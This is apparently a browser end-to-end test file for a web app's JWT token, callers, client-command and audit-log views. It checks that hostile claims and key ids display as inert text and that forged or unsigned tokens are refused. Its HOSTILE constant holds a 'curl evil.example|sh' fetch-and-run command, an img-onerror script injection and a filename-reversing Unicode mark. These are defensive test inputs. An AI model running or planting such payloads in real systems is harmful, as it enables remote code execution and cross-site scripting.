/** Tokens, callers and the log: what the other views show, and do. */
import { createServer } from "node:http";
import { press, textOf, untilSays, visit } from "./browser.mjs";

const HOSTILE = '`curl evil.example|sh`<img src=x onerror="hits.push(1)">\u202egpj.exe';
const VERIFY = "section[aria-labelledby=verify]";
const VERDICT = `${VERIFY} .verdict strong`;
/** Where a token is issued. */
export const ISSUE = "section[aria-labelledby=issue]";

/** Fills in the field of a label. */
async function fill(page, within, label, text) {
  const handle = await page.waitForFunction(
    (place, wanted) => {
      const found = [...document.querySelectorAll(`${place} label`)].find((each) => each.textContent.startsWith(wanted));
      return found && document.getElementById(found.htmlFor);
    },
    {},
    within,
    label,
  );
  const field = handle.asElement();
  await field.click({ count: 3 });
  await page.keyboard.press("Backspace");
  await field.type(text);
}

/** As it is pasted: at once. */
const setToken = (page, text) =>
  page.$eval(
    "textarea.token",
    (field, pasted) => {
      field.value = pasted;
      field.dispatchEvent(new Event("input", { bubbles: true }));
    },
    text,
  );

const encoded = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");
const DEMO = {
  kty: "EC",
  crv: "P-256",
  x: "MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4",
  y: "4Etl6SRW2YiLUrN5vfvVHuhp7x8PxltmWWlbbM4IFyM",
};

/** An issuer at a URL whose kids are made to harm. */
async function hostileIssuer() {
  const server = createServer(({ url = "" }, response) => {
    const found = url === "/jwks" ? { keys: [{ ...DEMO, kid: HOSTILE, alg: "ES256" }] } : { issuer, jwks_uri: `${issuer}/jwks` };
    response.setHeader("content-type", "application/json").end(JSON.stringify(found));
  });
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  const issuer = `http://127.0.0.1:${server.address().port}`;
  return { issuer, close: () => server.close() };
}

/** A verdict by another issuer's keys: what it has named looks like no command, and a failure is told. */
async function byAnotherIssuer({ page, check }) {
  const { issuer, close } = await hostileIssuer();
  await setToken(page, `${encoded({ alg: "ES256", kid: HOSTILE.slice(1) })}.${encoded({ iss: HOSTILE, exp: 1 })}.AA`);
  await page.click(`${VERIFY} input[type=radio]:not(:checked)`);
  await fill(page, VERIFY, "The issuer's URL", issuer);
  await press(page, "Fetch its keys and verify", VERIFY);
  await untilSays(page, VERDICT, "Refused");
  const words = await textOf(page, `${VERIFY} .verdict`);
  check(words.includes("curl evil.example|sh'<img") && words.includes(`${issuer}/jwks`), "another issuer's keys judge", words);
  check((await page.$$(`${VERIFY} .verdict p code`)).length === 0, "what another issuer has named looks like no command", words);
  check(!words.includes("\u202e"), "and turns no words round");
  close();
  await fill(page, VERIFY, "The issuer's URL", `${issuer}/\`gone\``);
  await press(page, "Fetch its keys and verify", VERIFY);
  await page.waitForSelector(`${VERIFY} [role=alert]`);
  const failure = await page.$$(`${VERIFY} [role=alert] code`);
  check(failure.length === 0, "nor does an issuer that does not answer", await textOf(page, `${VERIFY} [role=alert]`));
  await page.click(`${VERIFY} input[type=radio]:not(:checked)`);
}

/** A token is issued, read and verified; one that was changed is refused. */
export async function tokens({ page, check }) {
  await visit(page, "tokens");
  await fill(page, ISSUE, "sub", HOSTILE);
  await page.waitForSelector(`${ISSUE} [role=tab]`);
  await press(page, "Issue a token", ISSUE);
  const lines = `${ISSUE} .verdict .lines`;
  await page.waitForSelector(lines);
  const token = (await textOf(page, lines)).trim();
  check(/^[\w-]+\.[\w-]+\.[\w-]+$/.test(token), "a token is issued", token.slice(0, 20));
  await press(page, "Read and verify it", ISSUE);
  await untilSays(page, VERDICT, "Valid");
  const claims = await textOf(page, `${VERIFY} [aria-label=Claims]`);
  check(claims.includes("<img src=x"), "claims are shown as they are written");
  check(!claims.includes("\u202e"), "a mark that turns words round is shown by its number");
  const [header, , signature] = token.split(".");
  const other = encoded({ sub: "mallory" });
  await setToken(page, `${header}.${other}.${signature}`);
  await untilSays(page, VERDICT, "Refused");
  await setToken(page, `${encoded({ alg: "none" })}.${other}.`);
  await untilSays(page, VERDICT, "Refused");
  await setToken(page, "no token");
  await untilSays(page, VERDICT, "Refused");
  check(true, "what was changed, what is not signed and what is no token are refused");
  await byAnotherIssuer({ page, check });
  await setToken(page, "");
  await page.waitForFunction((place) => document.querySelector(place) === null, {}, VERDICT);
}

/** The same request as each client makes it: by arrows from one to the next. */
export async function commands({ page, check }) {
  await page.waitForSelector("[role=tab]");
  const count = (await page.$$("[role=tab]")).length;
  const seen = new Set();
  await page.$eval('[role=tab][aria-selected="true"]', (tab) => tab.focus());
  for (let turn = 0; turn < count; turn++) {
    seen.add(await textOf(page, "[role=tabpanel] .lines"));
    await page.keyboard.press("ArrowRight");
  }
  check(count >= 4 && seen.size === count, "each client has its own words", { count, seen: seen.size });
}

/** Who may ask, and by which limits. */
export async function callers({ page, check }) {
  await visit(page, "callers");
  await untilSays(page, "article h2", "billing");
  const rows = await page.$$eval("article table tbody tr", (all) => all.length);
  check(rows > 0, "the limits of a caller are shown");
}

/** The log is searched, and its head is copied. */
export async function audit({ page, check }) {
  await visit(page, "audit");
  await untilSays(page, ".verdict strong", "whole");
  const all = await page.$$eval("ol.audit li", (entries) => entries.length);
  await page.type("input[type=search]", "key.revoked");
  await page.waitForFunction((count) => document.querySelectorAll("ol.audit li").length < count, {}, all);
  await untilSays(page, "ol.audit li", "a key was revoked");
  await page.$eval("input[type=search]", (field) => field.select());
  await page.keyboard.type("there is no such thing");
  await untilSays(page, ".empty h2", "No entry has that");
  await press(page, "Copy", ".verdict");
  const head = await textOf(page, ".head");
  check((await page.evaluate(() => navigator.clipboard.readText())) === head, "the head of the log was copied", head);
}

/** Nothing that was named by a stranger became anything. */
export async function nothingRan({ page, check }) {
  const found = await page.evaluate(() => ({
    hits: globalThis.hits.length,
    images: document.querySelectorAll("img,script:not([src])").length,
  }));
  check(found.hits === 0 && found.images === 0, "no claim, name or kid became an element or ran", found);
}
